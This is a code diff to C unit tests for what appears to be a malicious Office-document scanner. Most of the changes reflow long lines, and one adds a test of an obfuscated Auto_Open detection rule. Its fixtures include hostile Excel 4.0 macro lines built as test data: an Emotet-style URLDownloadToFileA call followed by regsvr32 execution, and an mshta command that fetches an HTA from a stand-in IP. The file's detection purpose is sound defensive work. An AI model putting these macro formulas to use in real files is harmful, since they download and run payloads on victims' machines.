@@ -76,9 +76,11 @@ static void test_xls_emotet(void **state)
     const char *x = eg_fx_captured(EG_T_XLM);
     assert_non_null(strstr(x, "' sheet \"Macro1\" type=macro state=veryHidden\n"));
     assert_non_null(strstr(x, "' name \"Auto_Open\" builtin = Macro1!$A$1\n"));
-    assert_non_null(strstr(x, "Macro1!A1: =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"" URL
-                              "\",\"..\\oxnv1.ooccxx\",0,0)\n"));
-    assert_non_null(strstr(x, "Macro1!A2: =EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx\")\n"));
+    assert_non_null(strstr(x,
+                           "Macro1!A1: =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"" URL
+                           "\",\"..\\oxnv1.ooccxx\",0,0)\n"));
+    assert_non_null(
+        strstr(x, "Macro1!A2: =EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx\")\n"));
     assert_non_null(strstr(x, "Macro1!A4: =HALT()\n"));
     /* CHAR() chain decoded */
     assert_non_null(strstr(eg_fx_captured(EG_T_TEXT), "calc.exe"));
@@ -117,40 +119,57 @@ static void test_xls_hidden_sheet_clean(void **state)
 static const char CT_XLSM[] =
     "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
     "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
-    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+    "<Default Extension=\"rels\" "
+    "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
     "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
-    "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
-    "<Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>"
+    "<Override PartName=\"/xl/workbook.xml\" "
+    "ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
+    "<Override PartName=\"/xl/macrosheets/sheet1.xml\" "
+    "ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>"
     "</Types>";
-static const char RELS[] =
-    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
-    "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/>"
-    "</Relationships>";
+static const char RELS[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
+                           "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+                           "<Relationship Id=\"rId1\" "
+                           "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+                           "relationships/officeDocument\" Target=\"xl/workbook.xml\"/>"
+                           "</Relationships>";
 static const char WB_XML[] =
-    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
+    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook "
+    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
     "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
-    "<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Macro1\" sheetId=\"2\" state=\"hidden\" r:id=\"rId2\"/>"
-    "</sheets><definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName></definedNames></workbook>";
+    "<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Macro1\" sheetId=\"2\" "
+    "state=\"hidden\" r:id=\"rId2\"/>"
+    "</sheets><definedNames><definedName name=\"_xlnm.Auto_Open\" "
+    "hidden=\"1\">Macro1!$A$1</definedName></definedNames></workbook>";
 static const char WB_RELS[] =
-    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
-    "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
-    "<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/>"
+    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
+    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+    "<Relationship Id=\"rId1\" "
+    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
+    "Target=\"worksheets/sheet1.xml\"/>"
+    "<Relationship Id=\"rId2\" "
+    "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
+    "Target=\"macrosheets/sheet1.xml\"/>"
     "</Relationships>";
 static const char MACROSHEET[] =
-    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
+    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><xm:macrosheet "
+    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
     "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
     "<row r=\"1\"><c r=\"A1\"><f>EXEC(\"mshta http://198.51.100.30/p.hta\")</f></c></row>"
     "<row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>";
 static const char SHEET1[] =
-    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
-    "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Hello</t></is></c></row></sheetData></worksheet>";
+    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet "
+    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
+    "<sheetData><row r=\"1\"><c r=\"A1\" "
+    "t=\"inlineStr\"><is><t>Hello</t></is></c></row></sheetData></worksheet>";
 
 static void test_xlsm(void **state)
 {
     (void)state;
-    eg_fx_part p[] = {{"[Content_Types].xml", CT_XLSM, 0}, {"_rels/.rels", RELS, 0},
-                      {"xl/workbook.xml", WB_XML, 0},       {"xl/_rels/workbook.xml.rels", WB_RELS, 0},
-                      {"xl/worksheets/sheet1.xml", SHEET1, 0}, {"xl/macrosheets/sheet1.xml", MACROSHEET, 0}};
+    eg_fx_part p[] = {
+        {"[Content_Types].xml", CT_XLSM, 0},     {"_rels/.rels", RELS, 0},
+        {"xl/workbook.xml", WB_XML, 0},          {"xl/_rels/workbook.xml.rels", WB_RELS, 0},
+        {"xl/worksheets/sheet1.xml", SHEET1, 0}, {"xl/macrosheets/sheet1.xml", MACROSHEET, 0}};
     uint8_t *z;
     size_t len;
     eg_fx_zip_stored(p, 6, &z, &len);
@@ -162,7 +181,8 @@ static void test_xlsm(void **state)
     assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
     assert_false(eg_report_has_rule(r, "OOXML.MACRO_RENAMED"));
     assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
-    assert_non_null(strstr(eg_fx_captured(EG_T_XLM), "Macro1!A1: =EXEC(\"mshta http://198.51.100.30/p.hta\")\n"));
+    assert_non_null(strstr(eg_fx_captured(EG_T_XLM),
+                           "Macro1!A1: =EXEC(\"mshta http://198.51.100.30/p.hta\")\n"));
     eg_report_free(r);
     /* the same package called .xlsx is a disguise */
     r = scan("order.xlsx", z, len);
@@ -183,12 +203,20 @@ static void test_xlsb(void **state)
     eg_fx_b12_workbook(sh, 2, true, &wb);
     eg_fx_b12_macrosheet(f, 4, &ms);
     static const char rels[] =
-        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
-        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.bin\"/>"
-        "<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.bin\"/>"
+        "<?xml version=\"1.0\"?><Relationships "
+        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+        "<Relationship Id=\"rId1\" "
+        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
+        "Target=\"worksheets/sheet1.bin\"/>"
+        "<Relationship Id=\"rId2\" "
+        "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
+        "Target=\"macrosheets/sheet1.bin\"/>"
         "</Relationships>";
-    static const char ct[] = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
-                             "<Override PartName=\"/xl/workbook.bin\" ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>";
+    static const char ct[] =
+        "<?xml version=\"1.0\"?><Types "
+        "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+        "<Override PartName=\"/xl/workbook.bin\" "
+        "ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>";
     eg_fx_part p[] = {{"[Content_Types].xml", ct, 0},
                       {"xl/workbook.bin", (const char *)wb.data, wb.len},
                       {"xl/_rels/workbook.bin.rels", rels, 0},
@@ -202,7 +230,8 @@ static void test_xlsb(void **state)
     assert_true(eg_report_has_rule(r, "XLM.RENAMED_DLL"));
     const char *x = eg_fx_captured(EG_T_XLM);
     assert_non_null(strstr(x, "' name \"Auto_Open\" builtin = Macro1!$A$1\n"));
-    assert_non_null(strstr(x, "Macro1!A2: =EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx\")\n"));
+    assert_non_null(
+        strstr(x, "Macro1!A2: =EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx\")\n"));
     assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
     eg_report_free(r);
     free(z);
@@ -267,12 +296,68 @@ static void test_biff8_reader_direct(void **state)
     free_formulas(f, 4);
 }
 
+/* An Auto_Open macro sheet whose formulas are CHAR() chains (the 2020-21 droppers build every
+ * call this way): malicious through XLM.AUTO_OPEN_OBFUSCATED even though nothing resolves to a
+ * call. The same sheet without Auto_Open, and an Auto_Open macro with plain formulas (the
+ * harmless ALERT demonstrators), stay below malicious. */
+static eg_report *xls_with(bool auto_open, bool obf)
+{
+    eg_buf f[2];
+    eg_buf_init(&f[0], 0);
+    eg_buf_init(&f[1], 0);
+    if (obf)
+        eg_fx_ptg_char_chain(&f[0], "GET.WORKSPACE(1)");
+    else
+        eg_fx_ptg_str(&f[0], "GET.WORKSPACE(1)", false);
+    eg_fx_ptg_funcvar(&f[1], 54, 0); /* HALT */
+    eg_fx_sheet sh[2] = {{"Sheet1", 0, 0, NULL, 0}, {"Macro1", 1, 0, f, 2}};
+    eg_buf wb;
+    eg_buf_init(&wb, 0);
+    eg_fx_biff8_workbook(sh, 2, auto_open, &wb);
+    eg_fx_stream st[1] = {{"Workbook", wb.data, wb.len}};
+    uint8_t *xls;
+    size_t len;
+    assert_int_equal(eg_fx_cfb(st, 1, &xls, &len), EG_OK);
+    eg_report *r = scan("report.xls", xls, len);
+    free(xls);
+    eg_buf_free(&wb);
+    free_formulas(f, 2);
+    return r;
+}
+
+static void test_xls_auto_open_obfuscated(void **state)
+{
+    (void)state;
+    eg_report *r = xls_with(true, true);
+    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
+    assert_true(eg_report_has_rule(r, "XLM.OBFUSCATION"));
+    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_OBFUSCATED"));
+    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
+    eg_report_free(r);
+
+    r = xls_with(false, true);
+    assert_true(eg_report_has_rule(r, "XLM.OBFUSCATION"));
+    assert_false(eg_report_has_rule(r, "XLM.AUTO_OPEN_OBFUSCATED"));
+    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
+    eg_report_free(r);
+
+    r = xls_with(true, false);
+    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
+    assert_false(eg_report_has_rule(r, "XLM.AUTO_OPEN_OBFUSCATED"));
+    assert_int_equal(eg_report_verdict(r), EG_VERDICT_SUSPICIOUS);
+    eg_report_free(r);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_xls_emotet), cmocka_unit_test(test_xls_hidden_sheet_clean),
-        cmocka_unit_test(test_xlsm),       cmocka_unit_test(test_xlsb),
-        cmocka_unit_test(test_formula_decoder), cmocka_unit_test(test_biff8_reader_direct),
+        cmocka_unit_test(test_xls_emotet),
+        cmocka_unit_test(test_xls_auto_open_obfuscated),
+        cmocka_unit_test(test_xls_hidden_sheet_clean),
+        cmocka_unit_test(test_xlsm),
+        cmocka_unit_test(test_xlsb),
+        cmocka_unit_test(test_formula_decoder),
+        cmocka_unit_test(test_biff8_reader_direct),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
